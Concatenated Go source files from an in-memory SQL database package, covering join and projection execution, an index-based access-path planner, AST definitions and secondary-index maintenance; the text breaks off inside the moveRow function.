			if !ok || !strings.EqualFold(ref.Col, t.cols[t.pk].Name) {
				continue
			}
			if ref.Table != "" && !strings.EqualFold(ref.Table, alias) && !strings.EqualFold(ref.Table, t.name) {
				continue
			}
			switch pair[1].(type) {
			case *Lit, *Param:
				v, err := ex.eval(pair[1], nil, nil)
				if err != nil {
					return 0, false
				}
				id, ok := AsInt(v)
				return id, ok
			}
		}
	}
	return 0, false
}

// buildFrom materializes the FROM clause (including joins). For a
// single base table with a pk-equality WHERE it uses the primary key
// index instead of a scan.
func (ex *executor) buildFrom(core *SelectCore, sc *scope) (relation, error) {
	if core.From == nil {
		return relation{rows: [][]Value{{}}}, nil
	}
	if core.From.Sub == nil && len(core.Joins) == 0 {
		if t, ok := ex.db.tables[strings.ToLower(core.From.Name)]; ok {
			alias := core.From.Alias
			if alias == "" {
				alias = core.From.Name
			}
			// Access-path layer: probe an index when the WHERE pins one;
			// candidates still pass through the full WHERE filter above.
			if ap := ex.chooseAccess(t, alias, core.Where); ap.kind != accessSeqScan {
				ex.db.countAccess(ap.kind)
				cols := ex.colBindings(len(t.cols))
				for i, c := range t.cols {
					cols[i] = colBinding{qual: alias, name: c.Name}
				}
				return relation{cols: cols, rows: ap.fetchRows()}, nil
			}
		}
	}
	left, err := ex.scanRef(*core.From, sc)
	if err != nil {
		return relation{}, err
	}
	for _, j := range core.Joins {
		right, err := ex.scanRef(j.Ref, sc)
		if err != nil {
			return relation{}, err
		}
		joined := relation{cols: append(append([]colBinding{}, left.cols...), right.cols...)}
		nullRight := make([]Value, len(right.cols))
		for _, lrow := range left.rows {
			matched := false
			for _, rrow := range right.rows {
				combined := append(append([]Value{}, lrow...), rrow...)
				if j.On != nil {
					rowScope := &scope{parent: sc, cols: joined.cols, row: combined}
					ok, err := ex.eval(j.On, rowScope, nil)
					if err != nil {
						return relation{}, err
					}
					if !truthy(ok) {
						continue
					}
				}
				matched = true
				joined.rows = append(joined.rows, combined)
			}
			if !matched && j.Left {
				joined.rows = append(joined.rows, append(append([]Value{}, lrow...), nullRight...))
			}
		}
		left = joined
	}
	return left, nil
}

// scanRef materializes a table, view, or subquery reference.
func (ex *executor) scanRef(ref TableRef, sc *scope) (relation, error) {
	qual := ref.Alias
	if ref.Sub != nil {
		rows, err := ex.execSelect(ref.Sub, sc)
		if err != nil {
			return relation{}, err
		}
		cols := ex.colBindings(len(rows.Columns))
		for i, c := range rows.Columns {
			cols[i] = colBinding{qual: qual, name: c}
		}
		return relation{cols: cols, rows: rows.Data}, nil
	}
	if qual == "" {
		qual = ref.Name
	}
	key := strings.ToLower(ref.Name)
	if t, ok := ex.db.tables[key]; ok {
		ex.db.statSeqScan.Add(1)
		cols := ex.colBindings(len(t.cols))
		for i, c := range t.cols {
			cols[i] = colBinding{qual: qual, name: c.Name}
		}
		rows := make([][]Value, len(t.rows))
		copy(rows, t.rows)
		return relation{cols: cols, rows: rows}, nil
	}
	if v, ok := ex.db.views[key]; ok {
		rel, err := ex.materializeView(v, sc)
		if err != nil {
			return relation{}, err
		}
		for i := range rel.cols {
			rel.cols[i].qual = qual
		}
		return rel, nil
	}
	return relation{}, fmt.Errorf("sqldb: no such table: %s", ref.Name)
}

// materializeView fully evaluates a view definition.
func (ex *executor) materializeView(v *view, sc *scope) (relation, error) {
	ex.db.statMaterialize.Add(1)
	rows, err := ex.execSelect(v.def, sc)
	if err != nil {
		return relation{}, err
	}
	cols := ex.colBindings(len(v.cols))
	for i, c := range v.cols {
		cols[i] = colBinding{qual: v.name, name: c}
	}
	return relation{cols: cols, rows: rows.Data}, nil
}

// project applies the select list to each source row.
func (ex *executor) project(core *SelectCore, src relation, sc *scope) (relation, error) {
	outCols, exprs, err := ex.expandCols(core, src)
	if err != nil {
		return relation{}, err
	}
	out := relation{cols: outCols, rows: make([][]Value, 0, len(src.rows))}
	// Fast path: a projection of plain column references compiles to
	// index copies, avoiding per-row scope lookups.
	if idxs, ok := columnIndexes(exprs, src.cols, ex.intsBuf(len(exprs))); ok {
		for _, row := range src.rows {
			projected := make([]Value, len(idxs))
			for i, idx := range idxs {
				projected[i] = row[idx]
			}
			out.rows = append(out.rows, projected)
		}
		return out, nil
	}
	rowScope := ex.newScope(sc, src.cols, nil)
	for _, row := range src.rows {
		rowScope.row = row
		projected := make([]Value, len(exprs))
		for i, e := range exprs {
			v, err := ex.eval(e, rowScope, nil)
			if err != nil {
				return relation{}, err
			}
			projected[i] = v
		}
		out.rows = append(out.rows, projected)
	}
	return out, nil
}

// columnIndexes resolves a projection made purely of column references
// to source column indexes, filling the caller-provided buffer (sized
// len(exprs)). It fails (ok=false) if any expression is not a plain
// reference or any name is ambiguous/unresolved locally.
func columnIndexes(exprs []Expr, cols []colBinding, idxs []int) ([]int, bool) {
	for i, e := range exprs {
		ref, isRef := e.(*ColRef)
		if !isRef {
			return nil, false
		}
		found := -1
		for j, b := range cols {
			if ref.Table != "" && !strings.EqualFold(b.qual, ref.Table) {
				continue
			}
			if strings.EqualFold(b.name, ref.Col) {
				if found >= 0 {
					return nil, false // ambiguous
				}
				found = j
			}
		}
		if found < 0 {
			return nil, false // may resolve in an outer scope
		}
		idxs[i] = found
	}
	return idxs, true
}

// expandCols expands * and t.* into concrete expressions. Results are
// memoized per core: the expression list is shared (evaluation never
// mutates ASTs) while the column bindings are copied out, since FROM
// aliasing rewrites quals in place.
func (ex *executor) expandCols(core *SelectCore, src relation) ([]colBinding, []Expr, error) {
	ex.db.planMu.Lock()
	if e, ok := ex.db.expandCache[core]; ok {
		ex.db.planMu.Unlock()
		// The handed-out copy is statement-scoped (FROM aliasing rewrites
		// quals in place), so it comes from the arena; the cached pristine
		// entry stays heap-allocated.
		cols := ex.colBindings(len(e.cols))
		copy(cols, e.cols)
		return cols, e.exprs, nil
	}
	ex.db.planMu.Unlock()
	outCols, exprs, err := ex.expandColsUncached(core, src)
	if err != nil {
		return nil, nil, err
	}
	pristine := make([]colBinding, len(outCols))
	copy(pristine, outCols)
	ex.db.planMu.Lock()
	if len(ex.db.expandCache) >= maxCachedStmts {
		ex.db.expandCache = make(map[*SelectCore]expandEntry)
	}
	ex.db.expandCache[core] = expandEntry{cols: pristine, exprs: exprs}
	ex.db.planMu.Unlock()
	return outCols, exprs, nil
}

func (ex *executor) expandColsUncached(core *SelectCore, src relation) ([]colBinding, []Expr, error) {
	var outCols []colBinding
	var exprs []Expr
	for _, rc := range core.Cols {
		switch {
		case rc.Star:
			for _, b := range src.cols {
				outCols = append(outCols, colBinding{name: b.name})
				exprs = append(exprs, &ColRef{Table: b.qual, Col: b.name})
			}
		case rc.TableStar != "":
			found := false
			for _, b := range src.cols {
				if strings.EqualFold(b.qual, rc.TableStar) {
					outCols = append(outCols, colBinding{name: b.name})
					exprs = append(exprs, &ColRef{Table: b.qual, Col: b.name})
					found = true
				}
			}
			if !found {
				return nil, nil, fmt.Errorf("sqldb: no such table: %s", rc.TableStar)
			}
		default:
			outCols = append(outCols, colBinding{name: exprName(rc)})
			exprs = append(exprs, rc.Expr)
		}
	}
	return outCols, exprs, nil
}

// groupData carries the rows of one aggregation group.
type groupData struct {
	cols []colBinding
	rows [][]Value
}

func (ex *executor) hasAggregate(cols []ResultCol) bool {
	for _, rc := range cols {
		if rc.Expr != nil && exprHasAggregate(rc.Expr) {
			return true
		}
	}
	return false
}

func exprHasAggregate(e Expr) bool {
	switch x := e.(type) {
	case *Call:
		switch x.Name {
		case "COUNT", "SUM", "AVG", "TOTAL":
			return true
		case "MAX", "MIN":
			return x.Star || len(x.Args) == 1
		}
		for _, a := range x.Args {
			if exprHasAggregate(a) {
				return true
			}
		}
	case *Unary:
		return exprHasAggregate(x.X)
	case *Binary:
		return exprHasAggregate(x.L) || exprHasAggregate(x.R)
	case *IsNull:
		return exprHasAggregate(x.X)
	case *Between:
		return exprHasAggregate(x.X) || exprHasAggregate(x.Lo) || exprHasAggregate(x.Hi)
	}
	return false
}

// execAggregate evaluates an aggregate (optionally grouped) core.
func (ex *executor) execAggregate(core *SelectCore, src relation, sc *scope) (relation, error) {
	groups := []groupData{}
	if core.GroupBy == nil {
		groups = append(groups, groupData{cols: src.cols, rows: src.rows})
	} else {
		index := map[string]int{}
		for _, row := range src.rows {
			rowScope := &scope{parent: sc, cols: src.cols, row: row}
			var keyBuf strings.Builder
			for _, g := range core.GroupBy {
				v, err := ex.eval(g, rowScope, nil)
				if err != nil {
					return relation{}, err
				}
				fmt.Fprintf(&keyBuf, "%T|%v|", v, v)
			}
			k := keyBuf.String()
			gi, ok := index[k]
			if !ok {
				gi = len(groups)
				index[k] = gi
				groups = append(groups, groupData{cols: src.cols})
			}
			groups[gi].rows = append(groups[gi].rows, row)
		}
	}
	var outCols []colBinding
	for _, rc := range core.Cols {
		outCols = append(outCols, colBinding{name: exprName(rc)})
	}
	out := relation{cols: outCols}
	for _, g := range groups {
		var first []Value
		if len(g.rows) > 0 {
			first = g.rows[0]
		} else {
			first = make([]Value, len(src.cols))
		}
		rowScope := &scope{parent: sc, cols: src.cols, row: first}
		g := g
		if core.Having != nil {
			keep, err := ex.eval(core.Having, rowScope, &g)
			if err != nil {
				return relation{}, err
			}
			if !truthy(keep) {
				continue
			}
		}
		projected := make([]Value, len(core.Cols))
		for i, rc := range core.Cols {
			if rc.Star || rc.TableStar != "" {
				return relation{}, fmt.Errorf("sqldb: * not allowed with aggregates")
			}
			v, err := ex.eval(rc.Expr, rowScope, &g)
			if err != nil {
				return relation{}, err
			}
			projected[i] = v
		}
		out.rows = append(out.rows, projected)
	}
	return out, nil
}
