package sqldb

import (
	"fmt"
	"sort"
	"strings"
)

// This file is the access-path half of the planner split. For one base
// table under a WHERE clause it chooses between a sequential scan, the
// primary-key probe, an index point probe, and an index range scan —
// by exact candidate counts, not heuristics: every probe's candidate
// set size is O(log n) (ordered) or O(1) (hash) to measure, so the
// "cost model" compares real row counts. The chosen path only narrows
// the candidate set; callers re-apply the full WHERE to candidates, so
// a probe can never change results, only skip rows that cannot match.
//
// Probes never under-select because expression evaluation and index
// keys share one total order: =, <, <=, >, >= and BETWEEN all evaluate
// via compare() (see eval.go), which is the same order index entries
// are sorted and hashed by. NULL key components are stored (sorting
// first), so probes touching NULL — a stored NULL inside an unbounded
// range, or a literal NULL constraint — may over-select rows the WHERE
// then rejects, but can never miss one it would accept.

type accessKind int

const (
	accessSeqScan accessKind = iota
	accessPKProbe
	accessIndexEq
	accessIndexRange
)

// accessPlan is a chosen access path with its candidate positions
// already resolved (the caller holds the table lock from choice
// through consumption, so positions cannot go stale).
type accessPlan struct {
	kind accessKind
	tbl  *table
	ix   *index // nil unless an index path

	positions []int // candidate row positions; nil for seq scan
	est       int   // candidate count (exact), table size for scans

	eqCols   []string // display: equality columns consumed
	rangeCol string   // display: range column, "" if none
	rangeOps string   // display: e.g. ">= lo, < hi"

	// Inline buffers for the single-position / single-column shapes the
	// pk-probe path produces, so a point lookup allocates no side slices.
	posBuf [1]int
	eqBuf  [1]string
}

// colConstraint accumulates the usable constraints on one column from
// the top-level AND conjuncts of a WHERE clause.
type colConstraint struct {
	hasEq  bool
	eq     Value
	hasLo  bool
	lo     Value
	loIncl bool
	hasHi  bool
	hi     Value
	hiIncl bool
}

// chooseAccess picks the cheapest access path for table t (referred to
// as alias) under where. It never fails: anything unanalyzable falls
// back to a sequential scan.
func (ex *executor) chooseAccess(t *table, alias string, where Expr) *accessPlan {
	scan := ex.newPlan()
	scan.kind, scan.tbl, scan.est = accessSeqScan, t, len(t.rows)
	if where == nil {
		return scan
	}
	cons := ex.constraintMap()
	ex.collectConstraints(t, alias, where, cons)
	if len(cons) == 0 {
		return scan
	}
	best := scan
	// Primary-key probe: at most one row, always wins when available.
	// The scan plan is repurposed in place: nothing else references it.
	if t.pk >= 0 {
		if c, ok := cons[t.pk]; ok && c.hasEq {
			if id, isInt := AsInt(c.eq); isInt {
				plan := scan
				plan.kind, plan.est = accessPKProbe, 0
				plan.eqBuf[0] = t.cols[t.pk].Name
				plan.eqCols = plan.eqBuf[:1]
				if pos, found := t.byPK[id]; found {
					plan.posBuf[0] = pos
					plan.positions = plan.posBuf[:1]
					plan.est = 1
				}
				return plan
			}
		}
	}
	for _, ix := range t.indexes {
		plan := planForIndex(ix, t, cons)
		if plan != nil && plan.est < best.est {
			best = plan
		}
	}
	return best
}

// planForIndex builds the best plan this one index supports for the
// given constraints, or nil if the index is unusable.
func planForIndex(ix *index, t *table, cons map[int]*colConstraint) *accessPlan {
	// Longest equality prefix of the index key.
	var eqVals []Value
	var eqCols []string
	for _, c := range ix.cols {
		cc, ok := cons[c]
		if !ok || !cc.hasEq {
			break
		}
		eqVals = append(eqVals, cc.eq)
		eqCols = append(eqCols, t.cols[c].Name)
	}
	if ix.kind == indexHash {
		// Hash buckets key the full composite value: all columns must
		// be pinned by equality.
		if len(eqVals) != len(ix.cols) {
			return nil
		}
		bucket := ix.buckets[hashKey(eqVals)]
		return &accessPlan{
			kind:      accessIndexEq,
			tbl:       t,
			ix:        ix,
			positions: append([]int(nil), bucket...),
			est:       len(bucket),
			eqCols:    eqCols,
		}
	}
	// Ordered: equality prefix, optionally extended by a range on the
	// next key column.
	plan := &accessPlan{tbl: t, ix: ix, eqCols: eqCols}
	var lo, hi Value
	var loIncl, hiIncl bool
	if len(eqVals) == len(ix.cols) {
		plan.kind = accessIndexEq
	} else {
		next := ix.cols[len(eqVals)]
		cc, ok := cons[next]
		if !ok || (!cc.hasLo && !cc.hasHi) {
			if len(eqVals) == 0 {
				return nil
			}
			plan.kind = accessIndexEq // pure prefix probe
		} else {
			plan.kind = accessIndexRange
			plan.rangeCol = t.cols[next].Name
			var ops []string
			if cc.hasLo {
				lo, loIncl = cc.lo, cc.loIncl
				if loIncl {
					ops = append(ops, ">=?")
				} else {
					ops = append(ops, ">?")
				}
			}
			if cc.hasHi {
				hi, hiIncl = cc.hi, cc.hiIncl
				if hiIncl {
					ops = append(ops, "<=?")
				} else {
					ops = append(ops, "<?")
				}
			}
			plan.rangeOps = strings.Join(ops, ",")
		}
	}
	var start, end int
	if plan.kind == accessIndexEq && len(eqVals) == len(ix.cols) {
		start, end = ix.eqRange(eqVals)
	} else {
		start, end = ix.rangeBounds(eqVals, lo, loIncl, hi, hiIncl)
	}
	plan.est = end - start
	plan.positions = make([]int, 0, end-start)
	for _, e := range ix.entries[start:end] {
		plan.positions = append(plan.positions, e.row)
	}
	return plan
}

// collectConstraints walks the top-level AND conjuncts of where and
// records per-column equality and range constraints whose other side is
// a constant (literal or bound parameter).
func (ex *executor) collectConstraints(t *table, alias string, where Expr, out map[int]*colConstraint) {
	switch x := where.(type) {
	case *Binary:
		if x.Op == "AND" {
			ex.collectConstraints(t, alias, x.L, out)
			ex.collectConstraints(t, alias, x.R, out)
			return
		}
		switch x.Op {
		case "=", "<", "<=", ">", ">=":
		default:
			return
		}
		// col OP const, or const OP col (flip the operator).
		ci, v, op, ok := ex.constraintSides(t, alias, x.L, x.R, x.Op)
		if !ok {
			return
		}
		c := ex.constraintFor(out, ci)
		switch op {
		case "=":
			c.hasEq = true
			c.eq = v
		case ">":
			c.tightenLo(v, false)
		case ">=":
			c.tightenLo(v, true)
		case "<":
			c.tightenHi(v, false)
		case "<=":
			c.tightenHi(v, true)
		}
	case *Between:
		if x.Not {
			return
		}
		ci, ok := resolveCol(t, alias, x.X)
		if !ok {
			return
		}
		lo, okLo := ex.constValue(x.Lo)
		hi, okHi := ex.constValue(x.Hi)
		if !okLo || !okHi {
			return
		}
		c := ex.constraintFor(out, ci)
		c.tightenLo(lo, true)
		c.tightenHi(hi, true)
	}
}

func (ex *executor) constraintFor(m map[int]*colConstraint, ci int) *colConstraint {
	c, ok := m[ci]
	if !ok {
		c = ex.newConstraint()
		m[ci] = c
	}
	return c
}

// tightenLo/tightenHi merge multiple range conjuncts on one column by
// keeping the most restrictive bound.
func (c *colConstraint) tightenLo(v Value, incl bool) {
	if !c.hasLo || compare(v, c.lo) > 0 || (compare(v, c.lo) == 0 && !incl) {
		c.hasLo, c.lo, c.loIncl = true, v, incl
	}
}

func (c *colConstraint) tightenHi(v Value, incl bool) {
	if !c.hasHi || compare(v, c.hi) < 0 || (compare(v, c.hi) == 0 && !incl) {
		c.hasHi, c.hi, c.hiIncl = true, v, incl
	}
}

// constraintSides identifies which side of a comparison is the column
// and which the constant, flipping the operator when the column is on
// the right.
func (ex *executor) constraintSides(t *table, alias string, l, r Expr, op string) (int, Value, string, bool) {
	if ci, ok := resolveCol(t, alias, l); ok {
		if v, okv := ex.constValue(r); okv {
			return ci, v, op, true
		}
	}
	if ci, ok := resolveCol(t, alias, r); ok {
		if v, okv := ex.constValue(l); okv {
			return ci, v, flipOp(op), true
		}
	}
	return 0, nil, "", false
}

func flipOp(op string) string {
	switch op {
	case "<":
		return ">"
	case "<=":
		return ">="
	case ">":
		return "<"
	case ">=":
		return "<="
	}
	return op
}

// resolveCol maps an expression to a column position of t when it is a
// plain reference to that table (unqualified names bind to the table
// first, matching scope.lookup's innermost-wins resolution).
func resolveCol(t *table, alias string, e Expr) (int, bool) {
	ref, ok := e.(*ColRef)
	if !ok {
		return 0, false
	}
	if ref.Table != "" && !strings.EqualFold(ref.Table, alias) && !strings.EqualFold(ref.Table, t.name) {
		return 0, false
	}
	ci := t.colIndex(ref.Col)
	if ci < 0 {
		return 0, false
	}
	return ci, true
}

// constValue evaluates a constant expression (literal or bound
// parameter). ok=false means the conjunct cannot drive a probe.
func (ex *executor) constValue(e Expr) (Value, bool) {
	switch e.(type) {
	case *Lit, *Param:
		v, err := ex.eval(e, nil, nil)
		if err != nil {
			return nil, false
		}
		return v, true
	}
	return nil, false
}

// fetchRows materializes the candidate rows (sharing row slices with
// the table, like the scan path does).
func (ap *accessPlan) fetchRows() [][]Value {
	if ap.kind == accessSeqScan {
		rows := make([][]Value, len(ap.tbl.rows))
		copy(rows, ap.tbl.rows)
		return rows
	}
	rows := make([][]Value, 0, len(ap.positions))
	for _, pos := range ap.positions {
		rows = append(rows, ap.tbl.rows[pos])
	}
	return rows
}

// sortedPositions returns candidate positions in ascending order for
// deterministic mutation (hash buckets are unordered).
func (ap *accessPlan) sortedPositions() []int {
	out := append([]int(nil), ap.positions...)
	sort.Ints(out)
	return out
}

// describe renders the plan in EXPLAIN output style.
func (ap *accessPlan) describe() string {
	switch ap.kind {
	case accessPKProbe:
		return fmt.Sprintf("SEARCH %s USING PRIMARY KEY (%s=?)", ap.tbl.name, ap.eqCols[0])
	case accessIndexEq, accessIndexRange:
		var terms []string
		for _, c := range ap.eqCols {
			terms = append(terms, c+"=?")
		}
		if ap.rangeCol != "" {
			terms = append(terms, ap.rangeCol+ap.rangeOps)
		}
		return fmt.Sprintf("SEARCH %s USING %s INDEX %s (%s) (~%d rows)",
			ap.tbl.name, ap.ix.kind, ap.ix.name, strings.Join(terms, " AND "), ap.est)
	}
	return fmt.Sprintf("SCAN %s (~%d rows)", ap.tbl.name, ap.est)
}

// countAccess records the executed access path in the DB statistics.
func (db *DB) countAccess(kind accessKind) {
	switch kind {
	case accessSeqScan:
		db.statSeqScan.Add(1)
	case accessPKProbe:
		db.statPKProbe.Add(1)
	default:
		db.statIdxProbe.Add(1)
	}
}
