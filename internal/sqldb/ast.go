package sqldb

// Statement nodes.

// Stmt is any parsed SQL statement.
type Stmt interface{ stmt() }

// ColumnDef is one column in a CREATE TABLE.
type ColumnDef struct {
	Name       string
	Type       string // INTEGER, TEXT, REAL, BLOB, BOOLEAN (affinity only)
	PrimaryKey bool
	NotNull    bool
	Default    Expr
}

// CreateTableStmt is CREATE TABLE [IF NOT EXISTS] name (cols...).
type CreateTableStmt struct {
	Name        string
	IfNotExists bool
	Cols        []ColumnDef
}

// CreateViewStmt is CREATE VIEW [IF NOT EXISTS] name AS select.
type CreateViewStmt struct {
	Name        string
	IfNotExists bool
	Select      *SelectStmt
}

// CreateTriggerStmt is CREATE TRIGGER name INSTEAD OF event ON view
// BEGIN body END. Only INSTEAD OF triggers on views are supported, which
// is all the COW proxy needs.
type CreateTriggerStmt struct {
	Name        string
	IfNotExists bool
	Event       string // INSERT, UPDATE, DELETE
	View        string
	Body        []Stmt
}

// CreateIndexStmt is CREATE INDEX [IF NOT EXISTS] name ON table
// (cols...) [USING HASH|ORDERED]. ORDERED (the default) supports point
// and range probes; HASH supports point probes only.
type CreateIndexStmt struct {
	Name        string
	IfNotExists bool
	Table       string
	Cols        []string
	Using       string // "", "HASH", or "ORDERED"
}

// ExplainStmt is EXPLAIN stmt: run the planner only and report the
// chosen access path for each table touched.
type ExplainStmt struct {
	Target Stmt
}

// DropStmt is DROP TABLE|VIEW|TRIGGER|INDEX [IF EXISTS] name.
type DropStmt struct {
	Kind     string // TABLE, VIEW, TRIGGER, INDEX
	Name     string
	IfExists bool
}

// TxnStmt is BEGIN [TRANSACTION], COMMIT, or ROLLBACK.
type TxnStmt struct {
	Kind string // BEGIN, COMMIT, ROLLBACK
}

// InsertStmt is INSERT [OR REPLACE] INTO table [(cols)] VALUES (...),(...)
// or INSERT INTO table [(cols)] select.
type InsertStmt struct {
	OrReplace bool
	Table     string
	Cols      []string
	Rows      [][]Expr
	Select    *SelectStmt
}

// Assign is one SET clause in an UPDATE.
type Assign struct {
	Col  string
	Expr Expr
}

// UpdateStmt is UPDATE table SET assigns [WHERE expr].
type UpdateStmt struct {
	Table string
	Set   []Assign
	Where Expr
}

// DeleteStmt is DELETE FROM table [WHERE expr].
type DeleteStmt struct {
	Table string
	Where Expr
}

// OrderTerm is one ORDER BY term.
type OrderTerm struct {
	Expr Expr
	Desc bool
}

// SelectStmt is a possibly compound (UNION ALL) select with trailing
// ORDER BY / LIMIT applying to the whole compound.
type SelectStmt struct {
	Cores   []*SelectCore
	OrderBy []OrderTerm
	Limit   Expr
	Offset  Expr
}

// ResultCol is one column of a select list.
type ResultCol struct {
	Star      bool   // *
	TableStar string // t.*
	Expr      Expr
	Alias     string
}

// TableRef names a table, view, or subquery in FROM.
type TableRef struct {
	Name  string
	Alias string
	Sub   *SelectStmt
}

// Join is one JOIN clause.
type Join struct {
	Left bool // LEFT OUTER JOIN vs INNER JOIN
	Ref  TableRef
	On   Expr
}

// SelectCore is one arm of a compound select.
type SelectCore struct {
	Distinct bool
	Cols     []ResultCol
	From     *TableRef
	Joins    []Join
	Where    Expr
	GroupBy  []Expr
	Having   Expr
}

func (*CreateTableStmt) stmt()   {}
func (*CreateViewStmt) stmt()    {}
func (*CreateTriggerStmt) stmt() {}
func (*CreateIndexStmt) stmt()   {}
func (*ExplainStmt) stmt()       {}
func (*DropStmt) stmt()          {}
func (*TxnStmt) stmt()           {}
func (*InsertStmt) stmt()        {}
func (*UpdateStmt) stmt()        {}
func (*DeleteStmt) stmt()        {}
func (*SelectStmt) stmt()        {}

// Expression nodes.

// Expr is any SQL expression.
type Expr interface{ expr() }

// Lit is a literal value.
type Lit struct{ Val Value }

// Param is a ? placeholder, bound positionally at execution.
type Param struct{ Index int }

// ColRef references a column, optionally qualified (table.col, NEW.col).
type ColRef struct {
	Table string
	Col   string
}

// Unary is -x or NOT x.
type Unary struct {
	Op string
	X  Expr
}

// Binary is a binary operation (arithmetic, comparison, AND/OR, ||, LIKE).
type Binary struct {
	Op   string
	L, R Expr
}

// InExpr is x [NOT] IN (list) or x [NOT] IN (subquery).
type InExpr struct {
	X    Expr
	Not  bool
	List []Expr
	Sub  *SelectStmt
}

// IsNull is x IS [NOT] NULL.
type IsNull struct {
	X   Expr
	Not bool
}

// Between is x [NOT] BETWEEN lo AND hi.
type Between struct {
	X      Expr
	Not    bool
	Lo, Hi Expr
}

// Call is a function call, possibly aggregate (COUNT, MAX, MIN, SUM...).
type Call struct {
	Name string
	Star bool // COUNT(*)
	Args []Expr
}

// SubqueryExpr is a scalar subquery.
type SubqueryExpr struct{ Select *SelectStmt }

// ExistsExpr is [NOT] EXISTS (subquery).
type ExistsExpr struct {
	Not    bool
	Select *SelectStmt
}

// CaseExpr is CASE [x] WHEN..THEN.. [ELSE..] END.
type CaseExpr struct {
	Operand Expr // may be nil
	Whens   []struct{ Cond, Result Expr }
	Else    Expr
}

func (*Lit) expr()          {}
func (*Param) expr()        {}
func (*ColRef) expr()       {}
func (*Unary) expr()        {}
func (*Binary) expr()       {}
func (*InExpr) expr()       {}
func (*IsNull) expr()       {}
func (*Between) expr()      {}
func (*Call) expr()         {}
func (*SubqueryExpr) expr() {}
func (*ExistsExpr) expr()   {}
func (*CaseExpr) expr()     {}
