package sqldb

import (
	"fmt"
	"sort"
	"strings"

	"maxoid/internal/fault"
)

// This file is the catalog/storage half of the planner split: secondary
// indexes over base tables. Two physical shapes exist:
//
//   - ordered: entries sorted by composite key (compare() order, then
//     row position), serving point probes and range scans;
//   - hash: valueKey-keyed buckets of row positions, serving point
//     probes only.
//
// Every row is indexed, NULL key components included (NULL sorts
// first in compare() order). Probes therefore only ever
// over-approximate — a constraint against NULL selects entries no
// WHERE can match — and every consumer re-applies the full WHERE to
// the candidates, so over-approximation is harmless. The converse
// (excluding NULL-keyed rows, as real B-trees famously don't) is NOT
// safe here: a probe that constrains only a prefix of the key must
// still find rows whose unconstrained suffix columns are NULL.
// Maintenance is wired through every mutation path — insert, update,
// delete, OR REPLACE, transaction snapshot/rollback — including the
// COW trigger bodies, which bottom out in the same three mutators.
//
// Fault points: index build fails before the index is published
// (all-or-nothing CREATE INDEX), and a maintenance fault fires before
// the row mutation it guards, then self-heals by rebuilding — so a
// failed statement can never leave an index inconsistent with its
// table. internal/chaos checks both invariants.
var (
	faultIndexBuild = fault.Declare("sqldb.indexbuild", "CREATE INDEX build: fail before the index is published; no partial index may be visible")
	faultIndexMaint = fault.Declare("sqldb.indexmaint", "index maintenance: fail before a row mutation; indexes must stay consistent with table rows")
)

// indexKind selects the physical index structure.
type indexKind int

const (
	indexOrdered indexKind = iota
	indexHash
)

func (k indexKind) String() string {
	if k == indexHash {
		return "HASH"
	}
	return "ORDERED"
}

// idxEntry is one ordered-index entry: composite key plus row position.
type idxEntry struct {
	key []Value
	row int
}

// index is a secondary index over one base table. It is owned by its
// table and protected by the table's lock (plus the catalog lock for
// DDL, which runs on the exclusive path).
type index struct {
	name     string // as created (display)
	table    string // owning table name (display)
	kind     indexKind
	cols     []int    // key column positions in the table
	colNames []string // display names, parallel to cols

	entries  []idxEntry       // ordered: sorted by (key, row)
	buckets  map[string][]int // hash: composite valueKey -> row positions
	distinct int              // distinct keys (selectivity stats)
}

// keyFor extracts the index key from a row. NULL components are legal
// key values: they sort first and hash under valueKey(nil), and probes
// against them merely over-select (see the package comment).
func (ix *index) keyFor(row []Value) []Value {
	key := make([]Value, len(ix.cols))
	for i, c := range ix.cols {
		key[i] = row[c]
	}
	return key
}

// hashKey renders a composite key for the hash buckets, consistent with
// compare() equality (numerics collapse to their float value).
func hashKey(key []Value) string {
	var b strings.Builder
	for _, v := range key {
		b.WriteString(valueKey(v))
		b.WriteByte(0)
	}
	return b.String()
}

// compareKeys orders composite keys lexicographically in compare() order.
func compareKeys(a, b []Value) int {
	for i := range a {
		if c := compare(a[i], b[i]); c != 0 {
			return c
		}
	}
	return 0
}

// search returns the position of the first entry >= (key, row).
func (ix *index) search(key []Value, row int) int {
	return sort.Search(len(ix.entries), func(i int) bool {
		c := compareKeys(ix.entries[i].key, key)
		if c != 0 {
			return c > 0
		}
		return ix.entries[i].row >= row
	})
}

// insertRow adds row (at position pos) to the index.
func (ix *index) insertRow(pos int, row []Value) {
	key := ix.keyFor(row)
	if ix.kind == indexHash {
		hk := hashKey(key)
		if _, exists := ix.buckets[hk]; !exists {
			ix.distinct++
		}
		ix.buckets[hk] = append(ix.buckets[hk], pos)
		return
	}
	i := ix.search(key, pos)
	newKey := true
	if i > 0 && compareKeys(ix.entries[i-1].key, key) == 0 {
		newKey = false
	}
	if i < len(ix.entries) && compareKeys(ix.entries[i].key, key) == 0 {
		newKey = false
	}
	if newKey {
		ix.distinct++
	}
	ix.entries = append(ix.entries, idxEntry{})
	copy(ix.entries[i+1:], ix.entries[i:])
	ix.entries[i] = idxEntry{key: key, row: pos}
}

// removeRow drops row (previously at position pos, with the given
// pre-mutation contents) from the index.
func (ix *index) removeRow(pos int, row []Value) {
	key := ix.keyFor(row)
	if ix.kind == indexHash {
		hk := hashKey(key)
		bucket := ix.buckets[hk]
		for i, p := range bucket {
			if p == pos {
				bucket[i] = bucket[len(bucket)-1]
				bucket = bucket[:len(bucket)-1]
				break
			}
		}
		if len(bucket) == 0 {
			delete(ix.buckets, hk)
			ix.distinct--
		} else {
			ix.buckets[hk] = bucket
		}
		return
	}
	i := ix.search(key, pos)
	if i >= len(ix.entries) || ix.entries[i].row != pos || compareKeys(ix.entries[i].key, key) != 0 {
		return // entry missing; removal is a no-op (rebuild restores)
	}
	lastOfKey := true
	if i > 0 && compareKeys(ix.entries[i-1].key, key) == 0 {
		lastOfKey = false
	}
	if i+1 < len(ix.entries) && compareKeys(ix.entries[i+1].key, key) == 0 {
		lastOfKey = false
	}
	if lastOfKey {
		ix.distinct--
	}
	copy(ix.entries[i:], ix.entries[i+1:])
	ix.entries = ix.entries[:len(ix.entries)-1]
}

// moveRow updates the index when a row moves from position from to
// position to without changing contents (swap-delete compaction).
func (ix *index) moveRow(from, to int, row []Value) {
	key := ix.keyFor(row)
	if ix.kind == indexHash {
		bucket := ix.buckets[hashKey(key)]
		for i, p := range bucket {
			if p == from {
				bucket[i] = to
				return
			}
		}
		return
	}
	i := ix.search(key, from)
	if i < len(ix.entries) && ix.entries[i].row == from && compareKeys(ix.entries[i].key, key) == 0 {
		copy(ix.entries[i:], ix.entries[i+1:])
		ix.entries = ix.entries[:len(ix.entries)-1]
	}
	j := ix.search(key, to)
